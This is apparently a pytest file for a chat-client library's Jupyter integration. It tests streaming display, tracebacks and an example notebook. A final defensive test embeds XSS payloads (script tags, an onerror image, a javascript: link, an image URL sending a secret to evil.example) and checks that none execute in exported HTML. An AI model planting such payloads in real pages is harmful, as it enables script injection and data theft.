"""In a real Jupyter kernel, whose event loop runs already: calls, displays and the example."""

from __future__ import annotations

import json
import re
import sys
from importlib.util import module_from_spec, spec_from_file_location
from pathlib import Path

import pytest

from acechat.emulator import cut, fail, ok, pace

HERE = Path(__file__).parent
EXAMPLE = HERE.parent / "examples" / "39_jupyter.ipynb"

pytestmark = [
    pytest.mark.leaves("sockets"),  # of the kernel's channels
    pytest.mark.filterwarnings("ignore"),  # other people's, of Jupyter's own machinery
]

CELLS = [
    "from acechat import AsyncClient, Client\nclient = Client()\nclient.chat('Hello').text",
    "''.join(map(str, client.stream('one two')))",
    "asynchronous = AsyncClient()\n(await asynchronous.chat('Hello')).text",
    "''.join([str(delta) async for delta in asynchronous.stream('one two')])",
    "client.chat('Hello')",
    "await asynchronous.aclose()\nclient.close()\n'closed'",
]
SHOWN = [
    """
from acechat import AsyncClient, Client
from acechat.integrations.jupyter import show
client, asynchronous = Client(retries=1), AsyncClient()
"""
]


@pytest.fixture
def run(environment, tmp_path, monkeypatch):
    """Execute cells in a new kernel; return the notebook."""
    for name in ("JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "IPYTHONDIR"):
        monkeypatch.setenv(name, str(tmp_path))
    kernel = tmp_path / "kernels" / "python3"
    kernel.mkdir(parents=True)
    command = [sys.executable, "-m", "ipykernel_launcher", "-f", "{connection_file}"]
    (kernel / "kernel.json").write_text(json.dumps({"argv": command, "display_name": "this"}))

    def execute(cells, *, allow_errors=False):
        import nbclient  # not above: they take 3 s, and every worker imports every test
        import nbformat

        notebook = cells
        if isinstance(cells, list):
            made = [nbformat.v4.new_code_cell(code) for code in cells]
            notebook = nbformat.v4.new_notebook(cells=made)
        nbclient.NotebookClient(
            notebook,
            timeout=60,
            kernel_name="python3",
            allow_errors=allow_errors,
            resources={"metadata": {"path": EXAMPLE.parent}},
        ).execute()
        return notebook

    return execute


def data_of(cell):
    return cell.outputs[-1]["data"]


def texts(cell):
    """Return the text of each output, with the tags of HTML removed."""
    return [
        re.sub(r"<[^>]*>", "", output["data"].get("text/html") or output["data"]["text/plain"])
        for output in cell.outputs
    ]


def test_async_and_sync_work_in_a_notebook(run):
    shown = [data_of(cell) for cell in run(CELLS).cells]

    texts = [data["text/plain"] for data in shown]
    hello, words = "'You said: \"Hello\" (1 message)'", "'You said: \"one two\" (1 message)'"
    assert texts[:4] == [hello, words, hello, words]
    assert "You said: &quot;Hello&quot; (1 message)" in shown[4]["text/html"]
    assert texts[4].startswith("ChatCompletion('You said: ")
    assert texts[5] == "'closed'"


def test_a_stream_is_displayed_while_it_arrives(run, environment):
    words = [f"word{number} " for number in range(40)]
    environment.script(pace(0.05, of=ok(words)), pace(0.05, of=ok(words)))
    watch = (
        "from IPython.display import DisplayHandle\n"
        "pages, update = [], DisplayHandle.update\n"
        "DisplayHandle.update = lambda self, page: (pages.append(page.data), update(self, page))"
    )
    counted = "len(pages), sum('word39' in page for page in pages), 'word39' in pages[0]"
    cells = [*SHOWN, watch, "reply = show(client.stream('Hello'))", counted, "pages.clear()",
             "reply = await show(asynchronous.stream('Hello'))", counted, "reply.text"]  # fmt: skip

    notebook = run(cells)

    for stream, numbers in ((2, 3), (5, 6)):
        (output,) = notebook.cells[stream].outputs  # one display, which was updated
        assert "word0 word1 word2" in output["data"]["text/html"]
        updates, complete, at_once = eval(data_of(notebook.cells[numbers])["text/plain"])
        assert updates >= 4
        assert complete <= 3
        assert not at_once
    assert data_of(notebook.cells[7])["text/plain"] == repr("".join(words))


def test_a_run_and_a_truncated_stream_are_displayed_and_tracebacks_are_short(run, environment):
    environment.script(
        ok(tool_calls=[("weather", {"city": "Paris"})]),
        ok("Take one"),
        cut(after=4, of=ok(["one ", "two ", "three "])),
        fail(401),
    )
    tool = "def weather(city: str) -> str:\n    'Forecast.'\n    return f'rain in {city}'"
    cells = ["done = show(client.run_stream('Umbrella?', tools=[weather]))", "done",
             "show(client.stream('Hello'))", "client.chat('Hello')"]  # fmt: skip

    notebook = run([*SHOWN, tool, *cells], allow_errors=True)
    live, result, truncated, refused = notebook.cells[2:]

    assert texts(live) == texts(result)
    assert "rain in Paris" in texts(live)[0]
    assert "Take one" in texts(live)[0]
    assert "turns 2" in texts(live)[0]
    shown, error = truncated.outputs
    assert "one two" in shown["data"]["text/html"]
    assert "incomplete" in shown["data"]["text/html"]
    assert error["ename"] == "StreamTruncatedError"
    assert error["traceback"][:3] == [
        "Traceback (most recent call last):",
        "  cell, line 1",
        "    show(client.stream('Hello'))",
    ]
    (error,) = refused.outputs
    assert error["ename"] == "AuthenticationError"
    assert len(error["traceback"]) == 4
    assert error["traceback"][-1].startswith("acechat.errors.AuthenticationError: HTTP 401")


def test_the_example_runs(run, environment):
    environment.script(
        ok("**Hello**"),
        pace(0.01, of=ok(["Once ", "upon ", "a time"])),
        ok("Hello Ada"),
        ok(tool_calls=[("weather", {"city": "Paris"})]),
        ok("Take one"),
        ok("The end"),
    )

    import nbformat

    notebook = run(nbformat.read(EXAMPLE, as_version=4))

    nbformat.validate(notebook)
    hello, story, talk, umbrella, dot, again, wrong, _ = (
        cell for cell in notebook.cells if cell.cell_type == "code"
    )
    assert "<strong>Hello</strong>" in data_of(hello)["text/html"]
    assert "Once upon a time" in texts(story)[0]
    assert int(texts(story)[1]) > 0
    assert "My name is Ada." in texts(talk)[0]
    assert "Hello Ada" in texts(talk)[0]
    assert "rain in Paris" in texts(umbrella)[0]
    assert '<img src="data:image/png;base64,' in data_of(dot)["text/html"]
    assert "The end" in texts(again)[0]
    assert texts(again)[1] == "'stop'"
    (error,) = wrong.outputs
    assert error["output_type"] == "error"
    assert len(error["traceback"]) <= 6
    assert all("site-packages" not in line for line in error["traceback"])


def test_the_example_is_stored_without_outputs():
    cells = json.loads(EXAMPLE.read_text(encoding="utf-8"))["cells"]

    assert [cell for cell in cells if cell.get("outputs") or cell.get("execution_count")] == []


HOSTILE = """\
<script>document.title = "owned"</script><img src=x onerror='document.title = "owned"'>

[here](javascript:document.title="owned") ![all](https://evil.example/?secret)

```
</pre><script>document.title = "owned"</script>
```
"""


def load(name):
    """Import a file of tests/web: under importlib mode, tests are not a package."""
    spec = spec_from_file_location(name, HERE / "web" / f"{name}.py")
    module = module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_no_script_of_the_model_runs_in_a_published_notebook(run, environment, tmp_path):
    nbconvert = pytest.importorskip("nbconvert", reason="needs nbconvert")
    browsers = load("browser")
    command = browsers.find()
    if command is None:
        pytest.skip("no Chromium here: apt-get install chromium")
    told = ok(HOSTILE, reasoning=HOSTILE)
    called = ok(tool_calls=[("echo", {"text": HOSTILE})])
    error = json.dumps({"error": {"code": "bad_request", "message": HOSTILE}})
    environment.script(told, told, told, called, told, fail(400, body=error))
    echo = "def echo(text: str) -> str:\n    'Repeat.'\n    return text"
    talk = (
        "talk = client.conversation()\ntalk.send('<script>document.title=\"owned\"</script>')\ntalk"
    )
    notebook = run(
        [*SHOWN, echo, "client.chat('Hello')", "reply = show(client.stream('Hello'))", talk,
         "client.run('Hello', tools=[echo])", "client.chat('Hello')"],
        allow_errors=True,
    )  # fmt: skip

    page, _ = nbconvert.HTMLExporter().from_notebook_node(notebook)
    file = tmp_path / "page.html"
    file.write_text(page, encoding="utf-8")
    browser = browsers.Browser(command, tmp_path / "profile")
    try:
        shown = browser.open(file.as_uri())
        blocks = shown.evaluate("document.querySelectorAll('.acechat').length")
        scripts = shown.evaluate("document.querySelectorAll('.acechat script').length")
        links = shown.evaluate("document.querySelectorAll('a[href^=javascript]').length")
        images = shown.evaluate("document.querySelectorAll('img').length")
        text = shown.evaluate("document.body.textContent")
        title = shown.evaluate("document.title")
        shown.close()
    finally:
        browser.close()

    assert blocks == 4
    assert (scripts, links, images) == (0, 0, 0)
    assert title != "owned"
    assert text.count('<script>document.title = "owned"</script>') >= 8
